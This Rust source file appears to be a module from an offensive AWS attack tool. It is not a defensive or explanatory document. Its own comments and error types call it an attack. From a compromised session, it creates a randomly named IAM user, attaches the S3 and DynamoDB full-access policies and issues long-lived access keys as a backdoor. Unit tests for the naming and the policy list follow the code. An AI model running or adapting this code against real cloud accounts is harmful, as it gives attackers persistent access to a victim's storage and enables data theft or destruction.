use aws_sdk_iam as iam;
use rand::Rng;
use tracing::info;

use crate::error::{classify, AttackError, AttackResult};
use crate::session::CloudSession;

/// Managed policies attached to the attacker-controlled user. Full data-plane
/// access to both storage services, nothing else.
pub const FULL_ACCESS_POLICIES: [&str; 2] = [
    "arn:aws:iam::aws:policy/AmazonS3FullAccess",
    "arn:aws:iam::aws:policy/AmazonDynamoDBFullAccess",
];

/// A freshly created IAM user with its own long-lived key pair.
#[derive(Debug, Clone)]
pub struct EscalatedUser {
    pub user_name: String,
    pub arn: String,
    pub access_key_id: String,
    pub secret_access_key: String,
}

/// Creates a new privileged user from an already-authenticated session.
/// Failures are fatal to the run; there is no fallback identity.
pub struct Escalator {
    iam: iam::Client,
}

impl Escalator {
    pub fn new(session: &CloudSession) -> Self {
        Self {
            iam: iam::Client::new(session.config()),
        }
    }

    pub async fn create_privileged_user(&self, prefix: &str) -> AttackResult<EscalatedUser> {
        let user_name = random_user_name(prefix);

        let created = self
            .iam
            .create_user()
            .user_name(&user_name)
            .send()
            .await
            .map_err(|e| classify("create user", e))?;
        let arn = created
            .user()
            .map(|u| u.arn().to_string())
            .ok_or_else(|| AttackError::Api {
                action: "create user",
                code: None,
                message: "no user in create response".into(),
            })?;
        info!(user = %user_name, arn = %arn, "attacker user created");

        for policy_arn in FULL_ACCESS_POLICIES {
            self.iam
                .attach_user_policy()
                .user_name(&user_name)
                .policy_arn(policy_arn)
                .send()
                .await
                .map_err(|e| classify("attach user policy", e))?;
            info!(user = %user_name, policy = policy_arn, "policy attached");
        }

        let keyed = self
            .iam
            .create_access_key()
            .user_name(&user_name)
            .send()
            .await
            .map_err(|e| classify("create access key", e))?;
        let key = keyed.access_key().ok_or_else(|| AttackError::Api {
            action: "create access key",
            code: None,
            message: "no access key in create response".into(),
        })?;
        info!(user = %user_name, key_id = key.access_key_id(), "access key created");

        Ok(EscalatedUser {
            user_name,
            arn,
            access_key_id: key.access_key_id().to_string(),
            secret_access_key: key.secret_access_key().to_string(),
        })
    }
}

fn random_user_name(prefix: &str) -> String {
    let suffix: u32 = rand::thread_rng().gen_range(100_000..=999_999);
    format!("{prefix}_{suffix}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn user_names_carry_a_six_digit_suffix() {
        let name = random_user_name("run_while_u_can");
        let suffix = name.strip_prefix("run_while_u_can_").unwrap();
        assert_eq!(suffix.len(), 6);
        let n: u32 = suffix.parse().unwrap();
        assert!((100_000..=999_999).contains(&n));
    }

    #[test]
    fn policy_set_is_storage_only() {
        assert!(FULL_ACCESS_POLICIES
            .iter()
            .all(|p| p.starts_with("arn:aws:iam::aws:policy/")));
        assert!(FULL_ACCESS_POLICIES.iter().any(|p| p.contains("S3")));
        assert!(FULL_ACCESS_POLICIES.iter().any(|p| p.contains("DynamoDB")));
    }
}
